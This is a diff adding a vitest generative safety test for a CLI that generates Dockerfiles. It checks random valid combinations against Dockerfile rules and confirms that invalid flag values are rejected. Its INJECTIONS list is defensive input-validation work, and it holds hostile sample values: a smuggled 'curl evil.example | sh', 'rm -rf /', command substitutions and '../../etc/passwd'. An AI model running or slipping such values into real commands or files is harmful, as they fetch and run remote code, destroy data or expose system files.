@@ -1,0 +1,92 @@
+/**
+ * Generative safety test: hundreds of random valid option/detection
+ * combinations per stack must render Dockerfiles that pass every
+ * DOCKERFILE-RULES check, and random invalid values for every flag must be
+ * rejected (exit 2, the flag named, nothing written).
+ */
+import fs from 'node:fs';
+import path from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { STACKS } from '../../src/stacks/index.js';
+import { checkDockerfile, formatViolations } from '../lib/dockerfile-rules.js';
+import { GENERATORS } from './generators/index.js';
+import { chance, pick, rng, run, snapshot, tempDir, writeTree, type Random } from './support.js';
+
+const CASES_PER_STACK = 500;
+const SEED = Number(process.env['SAFETY_SEED'] ?? 20261130);
+const root = tempDir('cms-generative-');
+afterAll(() => fs.rmSync(root, { recursive: true, force: true }));
+
+/** Values that must never pass any flag's validation. */
+const INJECTIONS = [
+  '',
+  ' ',
+  'a\nRUN curl evil.example | sh',
+  'x"; rm -rf / #',
+  "x' && id",
+  '$(touch /tmp/pwned)',
+  '`id`',
+  'a\\\nRUN id',
+  'a b',
+  '../../etc/passwd',
+  '--',
+  '-x',
+  '\u0000',
+  '{{name}}',
+  'é',
+];
+
+function invalidValue(random: Random, flag: string): string {
+  if (chance(random, 0.7)) return pick(random, INJECTIONS);
+  const junk = Array.from({ length: 1 + Math.floor(random() * 12) }, () => pick(random, [...'$`"\'\\\n;|&<> ()']))
+    .join('');
+  return `${pick(random, ['', 'a', '1', flag])}${junk}`;
+}
+
+describe.each(GENERATORS.map((g) => [g.stack, g] as const))('%s', (stack, generator) => {
+  it('is a stack the CLI knows', () => {
+    expect(STACKS.map((s) => s.id)).toContain(stack);
+  });
+
+  it(`renders ${CASES_PER_STACK} random valid combinations that pass every Dockerfile rule`, async () => {
+    const random = rng(SEED + stack.length);
+    for (let i = 0; i < CASES_PER_STACK; i++) {
+      const testCase = generator.valid(random);
+      const dir = path.join(root, `${stack}-${i}`);
+      fs.mkdirSync(dir);
+      writeTree(dir, testCase.files);
+      const result = await run([dir, '--stack', stack, '--yes', '--skip-install', ...testCase.flags], root);
+      const where = `case ${i} (seed ${SEED}): ${testCase.description}`;
+      expect(result.code, `${where}\n${result.stderr}`).toBe(0);
+      const dockerfile = fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8');
+      const dockerignore = fs.readFileSync(path.join(dir, '.dockerignore'), 'utf8');
+      const violations = checkDockerfile(dockerfile, {
+        dockerignore,
+        expectedStages: ['base', 'dependencies', 'development', 'builder', 'production'],
+      });
+      expect(violations, `${where}\n${formatViolations(violations)}\n${dockerfile}`).toEqual([]);
+      expect(dockerfile).not.toMatch(/&#x|&quot;|&amp;/);
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('rejects random invalid values for every flag: exit 2, the flag named, nothing written', async () => {
+    const random = rng(SEED * 7 + stack.length);
+    for (const flag of generator.valueFlags) {
+      for (let i = 0; i < 25; i++) {
+        const value = invalidValue(random, flag);
+        const testCase = generator.valid(random);
+        const dir = path.join(root, `${stack}-bad-${flag}-${i}`);
+        fs.mkdirSync(dir);
+        writeTree(dir, testCase.files);
+        const before = snapshot(dir);
+        const result = await run([dir, '--stack', stack, '--yes', '--skip-install', `--${flag}=${value}`], root);
+        const where = `--${flag}=${JSON.stringify(value)} on ${testCase.description}`;
+        expect(result.code, `${where}\n${result.stderr}`).toBe(2);
+        expect(result.stderr, where).toContain(`--${flag}`);
+        expect(snapshot(dir), where).toEqual(before);
+        fs.rmSync(dir, { recursive: true, force: true });
+      }
+    }
+  });
+});
